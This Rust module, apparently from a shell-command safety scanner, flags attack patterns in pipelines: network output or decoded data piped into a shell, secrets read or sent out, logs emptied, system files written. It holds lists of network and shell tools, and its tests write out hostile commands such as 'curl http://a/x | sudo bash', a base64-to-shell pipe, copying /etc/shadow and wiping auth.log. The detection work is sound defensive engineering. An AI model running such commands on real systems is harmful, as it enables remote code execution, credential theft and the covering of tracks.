// SPDX-License-Identifier: Apache-2.0
//! What the shape of commands says: who feeds whom, what is written where, which program gets a shell as its argument.

use super::lexicon::SIGNS;
use super::pieces::Piece;
use super::places::path_class;
use super::programs::{SHELLS, WRITERS};
use super::shell::{Join, program_name};

const NETWORK: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ftp",
    "tftp",
    "sftp",
    "scp",
    "rsync",
    "ssh",
    "lwp-download",
    "aria2c",
    "axel",
    "dig",
    "nslookup",
    "ping",
    "whois",
    "finger",
    "mail",
    "sendmail",
    "rclone",
    "openssl",
    "GET",
    "fetch",
    "lynx",
    "http",
];
const FETCH: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ftp",
    "tftp",
    "scp",
    "aria2c",
    "axel",
    "fetch",
    "lwp-download",
];
const DECODE: &[&str] =
    &["base64", "base32", "xxd", "uudecode", "rev", "openssl", "gunzip", "zcat", "hexdump", "tr", "b64decode", "od"];
const INTERPRETED: &[&str] = &["python", "perl", "ruby", "php", "node", "lua"];
/// Programs whose arguments name shells for ordinary reasons.
const NAMES_SHELLS: &[&str] = &[
    "chsh",
    "useradd",
    "usermod",
    "adduser",
    "which",
    "ls",
    "file",
    "grep",
    "rg",
    "find",
    "cat",
    "stat",
    "test",
    "[",
    "[[",
    "echo",
    "printf",
    "apt-get",
    "apt",
    "apk",
    "dnf",
    "yum",
    "type",
    "command",
    "readlink",
    "ldd",
    "strings",
    "man",
    "update-alternatives",
    "dpkg-divert",
    "dpkg",
    "sed",
    "awk",
    "chmod",
    "rm",
    "docker",
    "podman",
    "kubectl",
    "git",
    "su",
    "runuser",
    "getent",
    "whereis",
    "head",
    "tail",
    "pgrep",
    "pkill",
    "killall",
    "ps",
    "install",
    "pacman",
    "brew",
    "tldr",
    "help",
    "export",
    "set",
    "env",
    "exec",
    "sudo",
    "cp",
    "ln",
    "mv",
    "locate",
];

/// Which of [`SIGNS`] hold for `pieces`, a window.
pub(crate) fn signs(pieces: &[Piece]) -> Vec<usize> {
    let mut found = vec![false; SIGNS.len()];
    let mut sign = |name: &str| {
        if let Some(at) = SIGNS.iter().position(|(known, ..)| *known == name) {
            found[at] = true;
        }
    };
    // Since the last command that was not piped from: what fed the pipe.
    let (mut fetched, mut decoded, mut secret, mut shell, mut file) = (false, false, false, false, false);
    let mut written: Vec<String> = Vec::new();
    let mut downloaded: Vec<String> = Vec::new();
    for piece in pieces {
        let command = &piece.command;
        let Some(first) = command.words.first() else { continue };
        let name = program_name(&first.text);
        let name = name.as_str();
        let arguments = &command.words[1..];
        if !matches!(command.join, Join::Pipe | Join::Wrapped) {
            (fetched, decoded, secret, shell, file) = (false, false, false, false, false);
        }
        let is_shell = SHELLS.contains(&name);
        let script = arguments.iter().any(|word| !word.text.starts_with('-')) || command.input.is_some();
        let piped =
            command.join == Join::Pipe || (command.join == Join::Wrapped && command.wrapper.as_deref() == Some("sudo"));
        if is_shell && !script && !arguments.iter().any(|word| word.text.starts_with("--") || word.followed) {
            if piped {
                sign("piped-into-shell");
            } else if pieces.len() > 1 {
                // Alone it is how every script that comes through standard input starts.
                sign("bare-shell");
            }
        }
        if is_shell && piped {
            if fetched {
                sign("network-into-shell");
            }
            if decoded {
                sign("decoded-into-shell");
            }
        }
        if INTERPRETED.contains(&name) && piped && !script {
            sign("piped-into-interpreter");
            if fetched {
                sign("network-into-shell");
            }
            if decoded {
                sign("decoded-into-shell");
            }
        }
        if NETWORK.contains(&name) && piped {
            if shell {
                sign("shell-into-network");
            }
            if secret {
                sign("secret-into-network");
            } else if file {
                sign("file-into-network");
            }
        }
        // Places.
        match path_class(&first.text) {
            "tmp" => sign("run-from-temp"),
            "tmphidden" | "shm" | "dots" => sign("run-from-hidden"),
            _ => {}
        }
        if first.text.starts_with('$') {
            sign("variable-command");
        }
        let base = |path: &str| path.rsplit('/').next().unwrap_or(path).to_owned();
        if written.contains(&base(&first.text))
            || (is_shell && arguments.first().is_some_and(|word| written.contains(&base(&word.text))))
        {
            sign("written-then-run");
        }
        if downloaded.contains(&base(&first.text))
            || (is_shell && arguments.first().is_some_and(|word| downloaded.contains(&base(&word.text))))
        {
            sign("fetched-then-run");
        }
        let writes =
            WRITERS.contains(&name) || (name == "sed" && arguments.iter().any(|word| word.text.starts_with("-i")));
        let copies = matches!(
            name,
            "cp" | "mv"
                | "ln"
                | "install"
                | "dd"
                | "scp"
                | "rsync"
                | "tar"
                | "zip"
                | "base64"
                | "gzip"
                | "7z"
                | "openssl"
                | "gpg"
                | "xxd"
        );
        let mut follows_output = false;
        for (at, word) in arguments.iter().enumerate() {
            let text = word.text.as_str();
            if word.code {
                let lower = text.to_ascii_lowercase().replace("#!/bin/", "");
                let has = |parts: &[&str]| parts.iter().any(|part| lower.contains(part));
                let runs = has(&["system(", "exec", "popen", "subprocess", "spawn", "shell", "dup2", "fork"]);
                if has(&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh"]) {
                    sign("shell-in-code");
                }
                if has(&["socket", "fsockopen", "tcp", "inet", "net.connect"]) && runs {
                    sign("code-network-and-program");
                }
                if runs {
                    sign("code-starts-program");
                }
                if has(&["open(", "fopen", "file_put", "writefile", "file.write"])
                    && has(&["'w", "\"w", "'a'", "\"a\"", "write", "put_contents"])
                {
                    sign("code-writes-file");
                }
                continue;
            }
            if word.followed {
                continue;
            }
            let value = text.rsplit(['=', ':', '@', ',']).next().unwrap_or(text);
            let class = if value.contains('/') || value.starts_with(['~', '.', '$']) { path_class(value) } else { "" };
            let bare = program_name(value.split_whitespace().next().unwrap_or(value));
            let names_shell = class == "shellbin"
                || (SHELLS.contains(&bare.as_str()) && value.len() <= 12 && (text.contains(['=', ' ', '!']) || at > 0));
            if names_shell && !is_shell && !NAMES_SHELLS.contains(&name) {
                sign("shell-as-argument");
            }
            if names_shell
                && matches!(name, "cp" | "ln" | "mv" | "install")
                && class == "shellbin"
                && at + 1 < arguments.len()
            {
                sign("shell-copied");
            }
            let text_names_shell = |shell: &str| text.match_indices(shell).any(|(at, _)| !text[..at].ends_with("#!"));
            if class != "shellbin" && word.quoted && (text_names_shell("/bin/sh") || text_names_shell("/bin/bash")) {
                sign("shell-in-text");
            }
            let option = text.split(['=', ' ']).next().unwrap_or(text);
            if option.starts_with("--")
                && ["command", "exec", "shell", "program", "editor", "pager", "script", "checkpoint-action", "eval"]
                    .iter()
                    .any(|part| option.contains(part))
            {
                sign("command-option");
            }
            if text.ends_with(".so") && matches!(class, "tmp" | "tmphidden" | "shm" | "here") {
                sign("library-from-temp");
            }
            let target = writes && (at + 1 == arguments.len() || !copies || text.starts_with("of="));
            match class {
                "secret" if copies => sign("secret-copied"),
                "secret" => {
                    sign("secret-read");
                }
                "startup" if target => sign("startup-written"),
                "account" if target => sign("account-written"),
                "guard" if target => sign("guard-written"),
                "log" if matches!(name, "rm" | "shred" | "truncate" | "unlink" | "srm") => sign("log-emptied"),
                "kernelset" | "container" if target => sign("kernel-written"),
                "disk" if target || matches!(name, "mkfs" | "wipefs" | "shred") => sign("disk-written"),
                "bin" | "shellbin"
                    if target && at + 1 == arguments.len() && !matches!(name, "chmod" | "chown" | "rm") =>
                {
                    sign("system-program-written");
                }
                _ => {}
            }
            secret |= matches!(class, "secret" | "account");
            if NETWORK.contains(&name) && class == "secret" {
                sign("secret-into-network");
            }
            if follows_output {
                downloaded.push(base(text));
            }
            follows_output = FETCH.contains(&name) && matches!(text, "-o" | "-O" | "--output" | "--output-document");
            if FETCH.contains(&name) && text.contains("://") {
                downloaded.push(base(text));
            }
        }
        for redirect in &command.redirects {
            let class = path_class(&redirect.target);
            if redirect.operator.contains('>') {
                match class {
                    "startup" => sign("startup-written"),
                    "account" => sign("account-written"),
                    "secret" => sign("account-written"),
                    "guard" => sign("guard-written"),
                    "log"
                        if !redirect.operator.contains(">>")
                            && piece.data.trim().trim_matches(['"', '0']).is_empty()
                            && matches!(name, "echo" | "cat" | ":" | "true" | "printf") =>
                    {
                        sign("log-emptied");
                    }
                    "kernelset" | "container" => sign("kernel-written"),
                    "disk" => sign("disk-written"),
                    "devtcp" => sign("shell-into-network"),
                    "bin" | "shellbin" => sign("system-program-written"),
                    _ => {}
                }
                written.push(base(&redirect.target));
                if FETCH.contains(&name) {
                    downloaded.push(base(&redirect.target));
                }
            } else {
                secret |= matches!(class, "secret" | "account");
                if NETWORK.contains(&name) {
                    sign(if matches!(class, "secret" | "account") {
                        "secret-into-network"
                    } else {
                        "file-into-network"
                    });
                }
            }
        }
        if command.redirects.is_empty() && command.words.len() == 1 && name == ":" {
            continue;
        }
        fetched |= FETCH.contains(&name);
        decoded |= DECODE.contains(&name);
        shell |= is_shell;
        file |= matches!(name, "cat" | "tar" | "gzip" | "base64" | "xxd" | "zip" | "dd" | "find" | "ls" | "id" | "env");
    }
    found.iter().enumerate().filter(|(_, held)| **held).map(|(at, _)| at).collect()
}

#[cfg(test)]
mod tests {
    use super::super::{Execution, pieces};
    use super::*;

    fn check(line: &str, expected: &[&str]) {
        let pieces = pieces::pieces(&Execution::line(line));
        let told: Vec<_> = signs(&pieces.pieces).into_iter().map(|at| SIGNS[at].0).collect();
        assert_eq!(told, expected, "{line}");
    }

    #[test]
    fn shapes_of_attacks_are_seen() {
        check("curl http://a/x | sudo bash", &["piped-into-shell", "network-into-shell"]);
        check("echo aWQ= | base64 -d | sh", &["piped-into-shell", "decoded-into-shell"]);
        check("cp /etc/shadow /tmp/x", &["secret-copied"]);
        check("curl -o x http://a/x && chmod +x x && ./x", &["fetched-then-run"]);
        check("echo '' > /var/log/auth.log", &["log-emptied"]);
    }

    #[test]
    fn ordinary_work_has_none() {
        for line in
            ["git status", "ls -la | head", "grep -rn /etc/shadow tests", "echo done > /var/log/app/x.log", "sh"]
        {
            check(line, &[]);
        }
    }
}
